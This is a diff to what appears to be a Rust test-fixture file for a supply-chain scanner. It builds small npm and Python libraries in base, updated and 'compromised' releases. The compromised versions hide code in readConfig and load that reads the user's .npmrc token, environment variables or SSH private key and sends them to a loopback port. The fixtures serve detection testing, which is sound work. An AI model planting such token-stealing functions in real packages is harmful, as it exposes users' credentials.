@@ -964,3 +964,238 @@ pub fn bench_npm_tree(mids: usize, leaves: usize) -> Vec<NpmPkg> {
     }
     out
 }
+
+// ---------------------------------------------------------------------------------------------
+// Release pairs (the release diff): a small library in two releases, the second either an
+// ordinary update or a compromised one that changes one function and nothing else (no hook,
+// no new dependency). The payload is only ever parsed: the guard blocks it, and it targets a
+// closed loopback port.
+
+const TINY_JS_INDEX: &str = "'use strict';
+const util = require('./lib/util');
+const format = require('./lib/format');
+const cache = require('./lib/cache');
+module.exports = { pad: util.pad, readConfig: util.readConfig, format: format.format, Cache: cache.Cache };
+";
+
+const TINY_JS_FORMAT: &str = "'use strict';
+function format(template, values) {
+  return template.replace(/\\{(\\w+)\\}/g, (_, key) => String(values[key]));
+}
+function plural(n, word) {
+  return n === 1 ? word : word + 's';
+}
+module.exports = { format, plural };
+";
+
+const TINY_JS_CACHE: &str = "'use strict';
+class Cache {
+  constructor(limit = 100) {
+    this.limit = limit;
+    this.map = new Map();
+  }
+  get(key) {
+    return this.map.get(key);
+  }
+  set(key, value) {
+    if (this.map.size >= this.limit) {
+      this.map.delete(this.map.keys().next().value);
+    }
+    this.map.set(key, value);
+  }
+}
+module.exports = { Cache };
+";
+
+const TINY_JS_UTIL: &str = "'use strict';
+const fs = require('fs');
+const path = require('path');
+
+function pad(s, n) {
+  return String(s).padStart(n);
+}
+
+function readConfig(dir) {
+  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
+  return JSON.parse(text);
+}
+
+module.exports = { pad, readConfig };
+";
+
+/// `readConfig` of the compromised release also reads the user's npm token and posts it.
+const TINY_JS_UTIL_COMPROMISED: &str = "'use strict';
+const fs = require('fs');
+const path = require('path');
+
+function pad(s, n) {
+  return String(s).padStart(n);
+}
+
+function readConfig(dir) {
+  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
+  const os = require('os');
+  const http = require('http');
+  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+  const body = Buffer.from(JSON.stringify({ token, env: process.env })).toString('base64');
+  const req = http.request({ host: '127.0.0.1', port: 9, path: '/collect', method: 'POST' });
+  req.on('error', () => {});
+  req.write(body);
+  req.end();
+  return JSON.parse(text);
+}
+
+module.exports = { pad, readConfig };
+";
+
+/// An ordinary update of `lib/util.js`: a new option, a new pure helper, lines moved.
+const TINY_JS_UTIL_UPDATED: &str = "'use strict';
+// Helpers.
+const fs = require('fs');
+const path = require('path');
+
+function pad(s, n, fill = ' ') {
+  return String(s).padStart(n, fill);
+}
+
+function padRight(s, n) {
+  return String(s).padEnd(n);
+}
+
+function readConfig(dir, name = 'config.json') {
+  const text = fs.readFileSync(path.join(dir, name), 'utf8');
+  return JSON.parse(text);
+}
+
+module.exports = { pad, padRight, readConfig };
+";
+
+/// What a release of a library is, next to the one before it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Release {
+    /// The first release, or an identical one.
+    Base,
+    /// An ordinary update.
+    Updated,
+    /// One function changed to steal a token.
+    Compromised,
+}
+
+/// `name` (npm) at `version`: four modules, `lib/util.js` as `release` has it.
+pub fn npm_tiny_lib(name: &str, version: &str, release: Release) -> NpmPkg {
+    let util = match release {
+        Release::Base => TINY_JS_UTIL,
+        Release::Updated => TINY_JS_UTIL_UPDATED,
+        Release::Compromised => TINY_JS_UTIL_COMPROMISED,
+    };
+    let pkg = npm(
+        name,
+        version,
+        &[],
+        &[],
+        &[
+            ("index.js", TINY_JS_INDEX),
+            ("lib/util.js", util),
+            ("lib/format.js", TINY_JS_FORMAT),
+            ("lib/cache.js", TINY_JS_CACHE),
+        ],
+    );
+    if release == Release::Compromised {
+        malicious(pkg)
+    } else {
+        pkg
+    }
+}
+
+const TINY_PY_INIT: &str =
+    "from .core import load, save\nfrom .text import slug\n\n__all__ = ['load', 'save', 'slug']\n";
+
+const TINY_PY_TEXT: &str = "import re\n\n\ndef slug(text):\n    return re.sub(r'[^a-z0-9]+', '-', text.lower()).strip('-')\n\n\ndef title(text):\n    return ' '.join(w.capitalize() for w in text.split())\n";
+
+const TINY_PY_CORE: &str = "import json
+import os
+
+
+def load(path):
+    with open(path) as f:
+        return json.load(f)
+
+
+def save(path, data):
+    tmp = path + '.tmp'
+    with open(tmp, 'w') as f:
+        json.dump(data, f)
+    os.replace(tmp, path)
+";
+
+/// `load` of the compromised release also reads the user's SSH key and sends it.
+const TINY_PY_CORE_COMPROMISED: &str = "import json
+import os
+import base64
+import socket
+
+
+def load(path):
+    with open(path) as f:
+        data = json.load(f)
+    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
+    s = socket.create_connection(('127.0.0.1', 9))
+    s.sendall(base64.b64encode(key.encode()))
+    return data
+
+
+def save(path, data):
+    tmp = path + '.tmp'
+    with open(tmp, 'w') as f:
+        json.dump(data, f)
+    os.replace(tmp, path)
+";
+
+/// An ordinary update of `core.py`: an indent option, a docstring, lines moved.
+const TINY_PY_CORE_UPDATED: &str = "\"\"\"Reading and writing JSON files.\"\"\"
+import json
+import os
+
+
+def load(path):
+    \"\"\"The JSON document at `path`.\"\"\"
+    with open(path) as f:
+        return json.load(f)
+
+
+def save(path, data, indent=None):
+    tmp = path + '.tmp'
+    with open(tmp, 'w') as f:
+        json.dump(data, f, indent=indent)
+    os.replace(tmp, path)
+";
+
+/// `name` (a wheel) at `version`: three modules, `core.py` as `release` has it.
+pub fn py_tiny_lib(name: &str, version: &str, release: Release) -> PyDist {
+    let core = match release {
+        Release::Base => TINY_PY_CORE,
+        Release::Updated => TINY_PY_CORE_UPDATED,
+        Release::Compromised => TINY_PY_CORE_COMPROMISED,
+    };
+    let module = name.replace('-', "_");
+    let (init, text, core_path) = (
+        format!("{module}/__init__.py"),
+        format!("{module}/text.py"),
+        format!("{module}/core.py"),
+    );
+    let dist = wheel(
+        name,
+        version,
+        &[],
+        &[
+            (init.as_str(), TINY_PY_INIT),
+            (text.as_str(), TINY_PY_TEXT),
+            (core_path.as_str(), core),
+        ],
+    );
+    if release == Release::Compromised {
+        malicious(dist)
+    } else {
+        dist
+    }
+}
